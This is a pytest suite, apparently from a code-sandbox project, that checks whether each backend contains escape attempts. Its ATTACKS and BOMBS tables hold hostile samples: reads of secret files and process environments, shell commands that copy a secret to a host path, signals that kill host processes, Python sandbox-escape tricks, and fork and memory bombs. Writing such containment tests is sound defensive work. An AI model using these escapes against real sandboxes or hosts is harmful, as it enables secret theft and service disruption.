"""The escape corpus: one suite of attempts to get out, run on every backend.

Contained means, on every backend: no host file or secret reaches the result, no
connection reaches a host listener, no file appears on the host, a host process that
the code tries to signal survives, and the sandbox goes on serving. Resource bombs also
end as a failed execution with a clear one-line error. The `restricted` backend goes
further: it refuses each attempt itself (the import, the attribute, the call), so the
execution fails with a refusal before anything happens. `process` and `docker` let the
code try, inside their boundary.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio

from sandbox import Cell, ExecutionResult, Sandbox, SandboxLimits, create_sandbox

from .conftest import BACKENDS, open_sandbox_options
from .host_state import until

pytestmark = pytest.mark.asyncio(loop_scope="module")

MARKER = f"host-secret-{uuid.uuid4().hex}"
ESCAPE_LIMITS = SandboxLimits(timeout_s=4, cpu_s=4, memory_mb=256, output_bytes=20_000, max_api_calls=5)
REFUSALS = {"ImportError", "NameError", "AttributeError", "SyntaxError", "TypeError", "KeyError"}
"""How the restricted backend says no: at compile time or at the guarded import/attribute/call."""


@dataclass(frozen=True)
class Host:
    """What the code is aimed at: a secret file and variable, a listener, a process, a drop path."""

    secret_path: Path
    drop_path: Path
    port: int
    host_ips: tuple[str, ...]
    victim_pid: int
    connections: list[bytes]

    def format(self, code: str) -> str:
        return code.format(
            secret=str(self.secret_path), drop=str(self.drop_path), port=self.port, ips=list(self.host_ips), victim=self.victim_pid
        )


def _host_ips() -> tuple[str, ...]:
    """Loopback and this machine's own addresses (the listener is on all of them)."""
    found = {"127.0.0.1"}
    with contextlib.suppress(OSError):
        for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET):
            found.add(str(info[4][0]))
    return tuple(sorted(found))


@pytest.fixture(scope="module")
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A host process that the code will try to kill."""
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    yield process
    process.kill()
    process.wait()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def host(tmp_path_factory: pytest.TempPathFactory, victim: subprocess.Popen[bytes]) -> AsyncIterator[Host]:
    base = tmp_path_factory.mktemp("escape")
    secret = base / "secret.txt"
    secret.write_text(MARKER)
    connections: list[bytes] = []

    async def record(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(await reader.read(100) or b"<connected>")
        writer.close()

    server = await asyncio.start_server(record, "0.0.0.0", 0)
    port = server.sockets[0].getsockname()[1]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CODETOOL_ESCAPE_SECRET", MARKER)
        yield Host(secret, base / "dropped.txt", port, _host_ips(), victim.pid, connections)
    server.close()
    await server.wait_closed()


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=BACKENDS)
async def escape_sandbox(request: pytest.FixtureRequest, host: Host) -> AsyncIterator[Sandbox]:
    options = open_sandbox_options(request.param, pool_size=2)
    async with create_sandbox(request.param, ESCAPE_LIMITS, **options) as sandbox:
        yield sandbox


ATTACKS = {
    "read a host file": "print(open({secret!r}).read())",
    "read a host file by a relative path": "import os\nprint(open(os.path.relpath({secret!r})).read())",
    "environment secrets": "import os\nprint(dict(os.environ))",
    "the parent's environment": "import os\nprint(open('/proc/%d/environ' % os.getppid(), 'rb').read())",
    "pid 1's environment": "print(open('/proc/1/environ', 'rb').read())",
    "connect to the host": (
        "import socket\n"
        "for ip in {ips!r}:\n"
        "    try:\n"
        "        s = socket.create_connection((ip, {port}), timeout=1)\n"
        "        s.sendall(b'leaked')\n"
        "        print('connected to', ip)\n"
        "    except OSError as exc:\n"
        "        print('blocked', ip, exc)\n"
    ),
    "urllib to the host": "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=1).read())",
    "subprocess": "import subprocess\nprint(subprocess.run(['cat', {secret!r}], capture_output=True, text=True).stdout)",
    "os.system writes to the host": "import os\nos.system('cat {secret} > {drop}')\nprint(open({drop!r}).read())",
    "os.popen": "import os\nprint(os.popen('cat {secret}').read())",
    "ctypes system()": "import ctypes\nctypes.CDLL(None).system(b'cat {secret} > {drop}')\nprint(open({drop!r}).read())",
    "write outside the working directory": "open({drop!r}, 'w').write('written')\nprint(open({drop!r}).read())",
    "signal the parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('sent')",
    "signal a host process": "import os, signal\nos.kill({victim}, signal.SIGKILL)\nprint('sent')",
    "signal every process": "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('sent')",
    "dunder: subclasses to os": (
        "for cls in ().__class__.__base__.__subclasses__():\n"
        "    init = getattr(cls, '__init__', None)\n"
        "    g = getattr(init, '__globals__', None)\n"
        "    if g and 'popen' in g:\n"
        "        print(g['popen']('cat {secret}').read())\n"
        "        break\n"
    ),
    "dunder: builtins import": "print(__builtins__.__import__('os').environ)",
    "format reaches globals": "def f():\n    pass\nprint('{{0.__globals__[__builtins__]}}'.format(f))",
    "format_map reaches attributes": "print('{{x.__class__.__mro__}}'.format_map({{'x': 1}}))",
    "module through json": "import json\nprint(json.codecs.sys.modules['os'].environ)",
    "module through datetime": "import datetime\nprint(datetime.sys.modules['os'].popen('cat {secret}').read())",
    "module through re": "import re\nprint(re.enum.sys.modules['os'].environ)",
    "generator frame walk": "g = (i for i in [1])\nprint(g.gi_frame.f_back.f_globals)",
    "traceback frame walk": "try:\n    1 / 0\nexcept Exception as e:\n    print(e.__traceback__.tb_frame.f_back.f_globals)",
    "string.Formatter": "import string\nprint(string.Formatter().get_field('0.__class__.__mro__', [1], {{}}))",
    "except star type confusion": (
        "try:\n    raise ExceptionGroup('g', [ValueError(1)])\nexcept* ValueError as eg:\n"
        "    print(eg.exceptions[0].__class__.__mro__)"
    ),
    "getattr with a computed name": "import json\nprint(getattr(json, '__' + 'loader__'))",
    "vars of a module": "import json\nprint(vars(json))",
}

BOMBS = {
    "fork bomb": "import os\nwhile True:\n    os.fork()\n",
    "memory bomb at once": "x = bytearray(8 * 1024 ** 3)\n",
    "memory bomb by growth": "chunks = []\nwhile True:\n    chunks.append(bytearray(50 * 1024 ** 2))\n",
    "infinite loop": "while True:\n    pass\n",
    "gigabytes of output": "while True:\n    print('x' * 1_000_000)\n",
    "gigabytes to stderr": "import sys\nwhile True:\n    sys.stderr.write('x' * 1_000_000)\n",
    "recursion bomb": "def dive(n):\n    return dive(n + 1)\ndive(0)\n",
    "a huge file": "with open('big', 'w') as f:\n    while True:\n        f.write('x' * 1_000_000)\n",
}


def _everything(result: ExecutionResult) -> str:
    return " ".join(str(part) for part in (result.stdout, result.stderr, result.error, result.traceback))


async def _assert_contained(sandbox: Sandbox, host: Host, result: ExecutionResult) -> None:
    assert MARKER not in _everything(result)
    assert not host.drop_path.exists(), "the code wrote a file on the host"
    assert host.connections == [], "the code reached a host listener"
    assert os.waitpid(host.victim_pid, os.WNOHANG) == (0, 0), "the code killed a host process"
    after = await sandbox.execute(Cell(code="print('still serving')"))
    assert after.ok and after.stdout == "still serving\n", after.error


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_attack_is_contained(escape_sandbox: Sandbox, host: Host, attack: str) -> None:
    result = await escape_sandbox.execute(Cell(code=host.format(ATTACKS[attack])))
    await _assert_contained(escape_sandbox, host, result)
    if escape_sandbox.name == "restricted":
        assert not result.ok
        assert result.error_type in REFUSALS, result.error
        assert result.stdout == "" and "\n" not in result.error


@pytest.mark.parametrize("bomb", sorted(BOMBS))
async def test_resource_bomb_fails_cleanly(escape_sandbox: Sandbox, host: Host, bomb: str) -> None:
    result = await escape_sandbox.execute(Cell(code=BOMBS[bomb]))
    assert not result.ok
    assert result.error and "\n" not in result.error
    assert result.error_type != "SandboxCrash", result.error
    assert len(result.stdout.encode()) <= ESCAPE_LIMITS.output_bytes
    await _assert_contained(escape_sandbox, host, result)


LEFTOVER = f"leftover-{uuid.uuid4().hex[:8]}"
PLANT = f"""
import os, subprocess, sys
for path in ('/tmp/{LEFTOVER}', '{LEFTOVER}', '/dev/shm/{LEFTOVER}'):
    try:
        open(path, 'w').write('x')
    except OSError:
        pass
try:
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # {LEFTOVER}'], start_new_session=True)
except Exception:
    pass
print('planted')
"""
PROBE = f"""
import os
found = [path for path in ('/tmp/{LEFTOVER}', '{LEFTOVER}', '/dev/shm/{LEFTOVER}') if os.path.exists(path)]
try:
    for pid in os.listdir('/proc'):
        try:
            with open('/proc/' + pid + '/cmdline', 'rb') as handle:
                if b'{LEFTOVER}' in handle.read():
                    found.append(pid)
        except OSError:
            pass
except OSError:
    pass
print('found', found) if found else print('clean')
"""


def _host_processes_with(text: str) -> list[str]:
    listing = subprocess.run(["ps", "-eo", "pid=,args="], capture_output=True, text=True, check=True).stdout
    return [line for line in listing.splitlines() if text in line and "ps -eo" not in line]


async def test_nothing_is_left_for_the_next_execution_or_on_the_host(escape_sandbox: Sandbox) -> None:
    planted = await escape_sandbox.execute(Cell(code=PLANT))
    probes = [await escape_sandbox.execute(Cell(code=PROBE)) for _ in range(3)]  # whichever child or container comes next
    if escape_sandbox.name == "restricted":
        assert planted.error_type == "ImportError" and all(p.error_type == "ImportError" for p in probes)
    else:
        assert planted.ok, planted.error
        assert [p.stdout for p in probes] == ["clean\n"] * 3, [p.error for p in probes]
    assert list(Path("/tmp").glob(f"*{LEFTOVER}*")) == []
    # a used container is removed in the background, so its processes may take a moment to go
    await until(lambda: not _host_processes_with(LEFTOVER), f"no process marked {LEFTOVER} on the host", blocking=True)
